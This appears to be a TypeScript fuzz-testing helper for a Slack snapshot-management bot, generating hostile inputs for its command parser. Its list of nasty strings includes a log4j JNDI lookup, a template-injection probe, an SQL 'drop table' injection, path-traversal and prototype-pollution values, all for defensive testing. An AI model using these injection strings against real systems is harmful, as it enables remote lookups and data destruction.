/**
 * Hostile-input generators shared by the fuzz suites (fast-check). Runs are seeded so CI is reproducible;
 * `NASHA_FUZZ_SEED=<n>` explores other inputs and `NASHA_FUZZ_RUNS=<factor>` scales every run count (a failure
 * prints its seed and the shrunk counterexample; replay it with the same seed).
 */
import fc from 'fast-check';

const seedText = process.env['NASHA_FUZZ_SEED']?.trim();
const factorText = process.env['NASHA_FUZZ_RUNS']?.trim();

/** The seed every fuzz property uses in this run. */
export const FUZZ_SEED = seedText === undefined || seedText === '' ? 20_261_128 : Number(seedText);
const FACTOR = factorText === undefined || factorText === '' ? 1 : Number(factorText);
if (!Number.isSafeInteger(FUZZ_SEED)) throw new Error(`NASHA_FUZZ_SEED=${seedText}: expected an integer`);
if (!(FACTOR > 0)) throw new Error(`NASHA_FUZZ_RUNS=${factorText}: expected a positive factor`);

/** fast-check parameters: seeded, `runs` scaled by NASHA_FUZZ_RUNS. */
export function fuzzParams(runs: number): { seed: number; numRuns: number } {
  return { seed: FUZZ_SEED, numRuns: Math.max(1, Math.round(runs * FACTOR)) };
}

/** A test timeout that grows with NASHA_FUZZ_RUNS (the defaults leave room for a loaded CI machine). */
export function fuzzTimeout(ms: number): number {
  return Math.round(ms * Math.max(1, FACTOR));
}

/** Strings known to have broken parsers, paths, logs or markup somewhere. */
export const NASTY = [
  '',
  ' ',
  '.',
  '..',
  '../..',
  '../../me',
  './',
  '/',
  '//',
  '\\',
  '..\\..',
  '%2e%2e',
  '%2E%2E%2F',
  '%2f',
  '%00',
  '%',
  '%zz',
  '?',
  '#',
  '&',
  '=',
  ':',
  '*',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\r\n',
  '\t',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2028',
  '\u3000',
  '\ufeff',
  '\ud800',
  '\udfff',
  '\ud83d\ude00',
  '👩‍👩‍👧',
  'e\u0301',
  'İ',
  'ß',
  '<!channel>',
  '<@U0ADMIN>',
  '<#C0OPS>',
  '`',
  '```',
  '*bold*',
  '&lt;',
  '"',
  "'",
  '\\u0000',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, literally.
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  "'; drop table audit_records; --",
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '--reason',
  '--expires',
  '--expires=',
  '-e',
] as const;

/** Real words of the bot's world, so random input reaches deep branches, not only "unknown command". */
export const REAL_WORDS = [
  'snapshot',
  'snapshots',
  'help',
  '?',
  'services',
  'partitions',
  'list',
  'show',
  'create',
  'delete',
  'schedule',
  'add',
  'remove',
  'quick',
  'can-i',
  'cani',
  'read',
  'approve',
  '--expires',
  '--reason',
  '-e',
  '7d',
  '12h',
  '30m',
  '2w',
  '0d',
  '99999999d',
  '2026-12-31',
  '2026-12-31T18:00Z',
  '1970-01-01',
  'hour-1',
  'hour-6',
  'day-1',
  'day-7',
  'zpool-128310',
  'zpool-204117',
  'zpool-310442',
  'zpool-128310/data',
  'zpool-128310/logs',
  'zpool-204117/db',
  'zpool-128310/data/snap-data-pre-upgrade',
  'data',
  'db',
  'payments',
  'inc-2041',
  '<@U0VIEW>',
  '@someone',
  'U0VIEW',
] as const;

/** Any code unit, lone surrogates and C0/C1 controls included (fast-check's `binary` unit skips halves). */
const anyUnit = fc.oneof(
  fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
  fc.integer({ min: 0, max: 0x9f }).map((code) => String.fromCharCode(code)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code)),
);

/** One hostile string: a nasty constant, random text of every kind, or a mix of both. */
export function hostileString(maxLength = 60): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
    { weight: 2, arbitrary: fc.constantFrom(...REAL_WORDS) },
    { weight: 2, arbitrary: fc.string({ maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength }) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength }) },
    { weight: 1, arbitrary: fc.string({ unit: anyUnit, maxLength }) },
  );
  return fc.oneof(
    { weight: 4, arbitrary: piece },
    { weight: 2, arbitrary: fc.array(piece, { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')) },
    // Huge values: past every limit the bot sets (and Slack's).
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('x', '.', '/', '\u0000', '🙂', 'zpool-128310/'), fc.constantFrom(129, 2_001, 10_000))
        .map(([unit, n]) => unit.repeat(n)),
    },
  );
}

/** A service, partition or snapshot name an attacker would try: real ones spoiled, or garbage. */
export function hostileSegment(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom('zpool-128310', 'zpool-204117', 'data', 'logs', 'db', 'snap-data-pre-upgrade'),
    fc
      .tuple(fc.constantFrom('zpool-128310', 'data', ''), fc.constantFrom(...NASTY), fc.constantFrom('', 'x', '..'))
      .map((parts) => parts.join('')),
    hostileString(20),
  );
}

/** `/nasha` text: real words, targets and hostile pieces, joined by all kinds of separators. */
export function commandText(): fc.Arbitrary<string> {
  const token = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...REAL_WORDS) },
    { weight: 3, arbitrary: hostileString(30) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(hostileSegment(), fc.constantFrom('/', ' ', '/', ''), hostileSegment())
        .map((parts) => parts.join('')),
    },
  );
  const separator = fc.constantFrom(' ', ' ', ' ', '  ', '\t', '\n', '\u00a0', '\u3000', '/', '=', '');
  const sentence = fc
    .array(fc.tuple(token, separator), { maxLength: 9 })
    .map((pairs) => pairs.map(([word, sep]) => word + sep).join(''));
  // A real subcommand with a hostile target and options: gets past the parser to the service and OVH code.
  const segment = hostileSegment();
  const target = fc.oneof(
    fc.tuple(segment, segment).map(([a, b]) => `${a}/${b}`),
    fc.tuple(segment, segment).map(([a, b]) => `${a} ${b}`),
    fc.tuple(segment, segment, segment).map(([a, b, c]) => `${a}/${b}/${c}`),
    fc.tuple(segment, segment, segment).map(([a, b, c]) => `${a}/${b} ${c}`),
    segment,
  );
  const option = fc.oneof(
    fc.constantFrom('day-1', 'hour-6', 'day-7', 'inc-2041', 'payments'),
    fc
      .constantFrom('7d', '12h', '2026-12-31', '2026-12-31T18:00Z', '0d', '-1d', '2000-01-01')
      .map((d) => `--expires ${d}`),
    hostileString(20).map((d) => `--expires ${d}`),
    hostileString(40).map((why) => `--reason ${why}`),
    hostileString(20),
  );
  const structured = fc
    .tuple(
      fc.constantFrom('', '', 'snapshot ', 'Snapshot '),
      fc.constantFrom(
        'list',
        'show',
        'create',
        'delete',
        'schedule add',
        'schedule remove',
        'schedule show',
        'partitions',
        'quick',
        'can-i read',
        'can-i delete',
        'can-i approve',
      ),
      target,
      fc.array(option, { maxLength: 3 }),
    )
    .map(([prefix, sub, where, options]) => [`${prefix}${sub}`, where, ...options].join(' '));
  return fc.oneof(
    { weight: 6, arbitrary: structured },
    { weight: 4, arbitrary: sentence },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom('snapshot ', '', 'SNAPSHOT  '), sentence).map(([a, b]) => a + b) },
    { weight: 1, arbitrary: hostileString(200) },
  );
}
